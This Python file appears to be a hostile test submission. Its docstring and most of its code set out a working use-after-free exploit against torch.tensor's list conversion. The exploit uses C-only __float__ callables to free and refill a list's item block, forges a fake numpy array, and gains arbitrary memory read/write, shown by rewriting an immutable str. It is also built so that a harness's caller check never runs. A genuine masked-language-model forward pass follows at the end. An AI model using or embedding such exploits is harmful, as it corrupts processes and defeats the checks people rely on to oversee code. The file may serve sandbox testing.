"""Hostile: torch.tensor(items, dtype=...) stores a list's values by walking a pointer to the list's
item block taken before the loop (PySequence_Fast_ITEMS, torch/csrc/utils/tensor_new.cpp's
recursive_store), asking each item its value (__float__). The item's class binds __float__ in its
body to functools.partial(sum, compress(chain(map(list.clear, [items]), map(sprayed.append,
map(to_bytes, ...))), repeat(0)), 0.0): all C code that empties the list, refills the freed block
with bytes of the file's and returns the float 0.0, so torch goes on. No function of the file's
runs, so the check of who called (callers.py) never runs. The list is emptied and its freed 800-byte
block taken by a bytes object of the file's, so torch reads pointers of the file's choosing. Each
points at a fake object of a class whose __float__ is property(found.append): torch's call hands the
fake to list.append (C code again: no function of the file's runs in the whole walk), and the fake's
slot is a fake int64 ndarray over a real array's header. Writing that header's data pointer reads
and writes any address in the child. The file proves it by reading an int's header and rewriting the
contents of an immutable str, then answers honestly."""

import functools
import itertools
import math

import numpy as np
import torch


def words(*values):
    return b"".join(int(v).to_bytes(8, "little") for v in values)


found = []  # the fake objects numpy or torch met, kept (their refcount is 1 << 40: never freed)


class Fake:
    __slots__ = ("x",)
    # torch asks a fake item's value: the property's getter is list.append, a C method, called
    # with the fake as its argument; no code of the file's runs.
    __float__ = property(found.append)


victim = np.zeros(64, dtype=np.uint8)  # a real array, whose header the fake array covers
FLAGS = 0x1 | 0x2 | 0x100 | 0x400  # C and F contiguous, aligned, writeable
shape = words(12, 8)
# data, nd, dims, strides, base, descr, flags, ...: twelve int64 words over victim's header
fake_array = words(1 << 40, id(np.ndarray), id(victim), 1, id(shape) + 32, id(shape) + 40, 0, id(np.dtype(np.int64)), FLAGS, 0, 0, 0)
fake = words(0, 0, 1 << 40, id(Fake), id(fake_array) + 32)  # a zero GC header, then a Fake whose x is the array
fake_at = id(fake) + 32 + 16
pointers = int.from_bytes(words(*[fake_at] * 96)[:767], "little")  # 33 + 767 bytes: the 800 of 100 items
holder = []  # the list numpy walks, once made
sprayed = []
# Consumed only when iterated: list.clear(items), then eight bytes objects of 800 bytes (the freed
# item block) appended to `sprayed`, which keeps them; it yields only None. All C code.
EMPTY_AND_REFILL = itertools.chain(map(list.clear, holder), map(sprayed.append, map(pointers.to_bytes, [767] * 8, ["little"] * 8)))


class EmptiesTheList:
    # sum(compress(chain, repeat(0)), 0.0): the chain consumed, 0.0 returned; runs no code of the file's
    __float__ = functools.partial(sum, itertools.compress(EMPTY_AND_REFILL, itertools.repeat(0)), 0.0)


trigger = EmptiesTheList()
items = [1.0, 2.0, 3.0, trigger] + [0.0] * 96
holder.append(items)
try:
    torch.tensor(items, dtype=torch.float64)
except TypeError:  # the first fake's __float__ gave None: torch stops there, after property(found.append) ran
    pass
header = found[0].x  # the fake Fake's slot: a fake int64 ndarray over victim's header; [2] is its data pointer
own_data = int(header[2])


def read(at, n):
    header[2] = at
    data = bytes(victim[:n].tolist())
    header[2] = own_data
    return data


def write(at, data):
    header[2] = at
    victim[: len(data)] = np.array(list(data), dtype=np.uint8)
    header[2] = own_data


number = 12345678901234567
assert int.from_bytes(read(id(number) + 8, 8), "little") == id(int)  # ob_type read from the heap
word = "immutable"
write(id(word) + 48, b"IMMUTABLE")  # an immutable str rewritten in place
assert word == "IMMUTABLE", word
print("raw memory: read the heap and rewrote an immutable str")


def layer_norm(x):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return (x - mean) / torch.sqrt(var + 1e-5)


def gelu(x):
    return 0.5 * x * (1.0 + torch.tanh(math.sqrt(2.0 / math.pi) * (x + 0.044715 * x**3)))


def softmax(scores):
    e = torch.exp(scores - scores.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)


def attention(x, w_q, w_k, w_v, w_o, num_heads):
    n, t, d = x.shape
    dh = d // num_heads
    q, k, v = ((x @ w).view(n, t, num_heads, dh).transpose(1, 2) for w in (w_q, w_k, w_v))
    out = softmax(q @ k.transpose(-2, -1) / math.sqrt(dh)) @ v
    return out.transpose(1, 2).reshape(n, t, d) @ w_o


def mlm_forward_tied(input_ids, w_emb, pos_embed, blocks_weights, mask_indicator, num_heads):
    x = w_emb[input_ids] + pos_embed
    for w_q, w_k, w_v, w_o, w_mlp1, w_mlp2 in blocks_weights:
        x = x + attention(layer_norm(x), w_q, w_k, w_v, w_o, num_heads)
        x = x + gelu(layer_norm(x) @ w_mlp1) @ w_mlp2
    return x[mask_indicator > 0.5] @ w_emb.T
